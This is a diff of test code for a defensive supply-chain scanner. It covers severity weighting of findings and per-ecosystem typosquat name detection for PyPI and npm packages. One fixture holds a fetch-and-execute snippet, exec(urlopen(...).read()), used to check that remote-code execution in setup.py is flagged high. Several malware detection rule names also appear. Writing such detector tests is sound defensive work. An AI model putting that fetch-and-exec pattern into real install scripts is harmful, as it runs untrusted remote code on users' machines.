@@ -293,7 +293,7 @@ describe('policy: gates, weighting, fail closed', () => {
     assert.equal(ownRule.drivers[0].gate, 'malicious');
   });
 
-  it('weights: low confidence −1, install +1 (from medium), call-only code −2, not installed code −1/−2, confidence floor', async () => {
+  it('weights: low confidence −1, install +1 (from medium), call-only capabilities −2 (never sinks or malware evidence), lint ≤ low, not installed code −1/−2, confidence floor', async () => {
     const one = async (f: Partial<IPolicyFinding>, config = {}) =>
       (await decideOf([finding(f)], config)).runs[0].findings[0].effectiveSeverity;
     assert.equal(await one({ phase: 'import' }), 'medium');
@@ -316,10 +316,127 @@ describe('policy: gates, weighting, fail closed', () => {
       'low',
       'SAST in code that runs only when called'
     );
+    // Malware evidence is never lowered by where it sits; a capability heuristic is.
     assert.equal(
-      await one({ severity: 'high', phase: 'call', category: 'malicious', scanner: 'guarddog' }),
+      await one({
+        severity: 'high',
+        phase: 'call',
+        category: 'malicious',
+        scanner: 'guarddog',
+        ruleId: 'threat-runtime-obfuscation-base64exec'
+      }),
+      'high',
+      'a high guarddog threat inside a function still counts as high'
+    );
+    assert.equal(
+      await one({
+        severity: 'high',
+        phase: 'call',
+        category: 'sast',
+        scanner: 'semgrep',
+        ruleId: 'repoguard.python.obfuscated-exec'
+      }),
+      'high',
+      'own malware rule inside a function'
+    );
+    assert.equal(
+      await one({
+        severity: 'medium',
+        phase: 'call',
+        category: 'malicious',
+        scanner: 'guarddog',
+        ruleId: 'capability-process-spawn'
+      }),
+      'info'
+    );
+    // Vulnerability sinks count wherever they are in installed code.
+    for (const ruleId of ['B506', 'B602', 'B501', 'B608']) {
+      assert.equal(
+        await one({ severity: 'high', phase: 'call', ruleId }),
+        'high',
+        `${ruleId} is a vulnerability sink`
+      );
+    }
+    assert.equal(
+      await one({
+        severity: 'high',
+        phase: 'call',
+        scanner: 'semgrep',
+        ruleId: 'repoguard.python.yaml-unsafe-load'
+      }),
+      'high'
+    );
+    assert.equal(
+      await one({ severity: 'high', phase: 'call', ruleId: 'B506', path: 'tests/test_load.py' }),
+      'low',
+      'a sink in tests is not installed'
+    );
+    assert.equal(
+      await one({ severity: 'high', phase: 'not-installed' as never, ruleId: 'B506' }),
+      'low',
+      'observed not installed'
+    );
+    // Capabilities: weighed by when they run.
+    assert.equal(
+      await one({ severity: 'high', phase: 'call', ruleId: 'B402' }),
+      'low',
+      'import ftplib'
+    );
+    assert.equal(await one({ severity: 'high', phase: 'import', ruleId: 'B402' }), 'high');
+    // Lint: at most low.
+    assert.equal(
+      await one({ severity: 'medium', phase: 'import', ruleId: 'B108' }),
+      'low',
+      'hard-coded tmp path'
+    );
+    assert.equal(
+      await one({ severity: 'high', phase: 'install', ruleId: 'B324' }),
+      'low',
+      'weak hash'
+    );
+    // exec of the package's own file (its version file) in setup.py is not code injection.
+    assert.equal(
+      await one({
+        severity: 'medium',
+        path: 'setup.py',
+        ruleId: 'B102',
+        snippet: 'exec(open("src/pkg/_version.py").read(), ns)'
+      }),
       'low'
     );
+    assert.equal(
+      await one({
+        severity: 'medium',
+        path: 'setup.py',
+        ruleId: 'B102',
+        snippet: 'exec(urlopen("http://x.invalid").read())'
+      }),
+      'high',
+      'exec of fetched code is not'
+    );
+    // Secrets: examples in docs, CI upload tokens, source maps are low.
+    for (const p of [
+      'README.md',
+      'PKG-INFO',
+      '.github/workflows/release.yml',
+      'dist/index.js.map',
+      'docs/auth.rst',
+      '.travis.yml'
+    ]) {
+      assert.ok(
+        ['low', 'info'].includes(
+          await one({
+            severity: 'high',
+            path: p,
+            category: 'secret',
+            scanner: 'gitleaks',
+            ruleId: 'generic-api-key',
+            phase: 'unknown'
+          })
+        ),
+        p
+      );
+    }
     assert.equal(
       await one({ severity: 'high', phase: 'call', category: 'dynamic', scanner: 'dynamic' }),
       'high',
@@ -765,27 +882,71 @@ describe('policy: licence expressions and typosquat names', () => {
     );
   });
 
-  it('flags names one edit away from a popular package, never the popular names themselves', async () => {
-    const { typosquatOf, nameFindings } = await import('../src/policy/index.js');
-    assert.equal(typosquatOf('reqeusts'), 'requests');
-    assert.equal(typosquatOf('lodsah'), 'lodash');
-    assert.equal(typosquatOf('requestss'), 'requests');
+  it('flags names one edit away from a popular package of the same ecosystem, never the popular names themselves', async () => {
+    const { typosquatOf, nameFindings, nameKey, sameName, popular } =
+      await import('../src/policy/index.js');
+    assert.equal(typosquatOf('reqeusts', 'pypi'), 'requests');
+    assert.equal(typosquatOf('requestss', 'pypi'), 'requests');
+    assert.equal(typosquatOf('lodsah', 'npm'), 'lodash');
+    // Separate lists: npm's popular `request` does not make a PyPI `request` canonical.
+    assert.equal(typosquatOf('request', 'pypi'), 'requests');
+    assert.equal(typosquatOf('request', 'npm'), null);
+    // npm's canonical `yaml` is not a typosquat of anything.
+    assert.equal(typosquatOf('yaml', 'npm'), null);
+    assert.equal(typosquatOf('@evil/lodsah', 'npm'), 'lodash', 'a scope does not hide the name');
     for (const name of [
       'requests',
       'Requests',
       'python_dateutil',
+      'typing_extensions',
+      'Typing.Extensions',
       'charset-normalizer',
-      'ms',
       'six',
       'flask',
       'pyyaml',
       'statlite',
       'calc'
     ]) {
-      assert.equal(typosquatOf(name), null, name);
+      assert.equal(typosquatOf(name, 'pypi'), null, name);
     }
+    for (const name of [
+      'lodash',
+      'yaml',
+      'ms',
+      'chalk',
+      'semver',
+      '@types/node',
+      'node-fetch',
+      'js-yaml'
+    ]) {
+      assert.equal(typosquatOf(name, 'npm'), null, name);
+    }
+    // The lists are the registries' download rankings (thousands of names), not the test corpus.
+    assert.ok(popular('pypi').all.size >= 10000 && popular('npm').all.size >= 10000);
+    assert.ok(popular('npm').all.has('yaml') && !popular('pypi').all.has('lodash'));
+    // PEP 503 / npm normalisation, and the one-name-one-source comparison.
+    assert.equal(nameKey('Typing_Extensions', 'pypi'), 'typing-extensions');
+    assert.equal(nameKey('zope.interface', 'pypi'), 'zope-interface');
+    assert.equal(nameKey('Node.Fetch', 'npm'), nameKey('node-fetch', 'npm'));
+    assert.ok(sameName('typing_extensions', 'typing-extensions'));
+    assert.ok(sameName('Flask', 'flask'));
+    assert.ok(!sameName('requests', 'request'));
     const fs = await nameFindings('reqeusts', undefined);
     assert.equal(fs[0].category, 'malicious');
     assert.equal((await decideOf(fs)).decision, 'refused');
+    // A PyPI source named `request` is judged against PyPI's list.
+    const dir = await tempDir('rg-names-');
+    await writeFile(
+      path.join(dir, 'setup.py'),
+      'from setuptools import setup\nsetup(name="request")\n'
+    );
+    const named = await nameFindings('request', dir);
+    assert.ok(
+      named.length >= 1 && named.every(f => /PyPI package "requests"/.test(f.message)),
+      JSON.stringify(named)
+    );
+    const npmDir = await tempDir('rg-names-npm-');
+    await writeFile(path.join(npmDir, 'package.json'), '{ "name": "yaml", "version": "2.0.0" }\n');
+    assert.deepEqual(await nameFindings('yaml', npmDir), [], 'npm yaml is canonical');
   });
 });
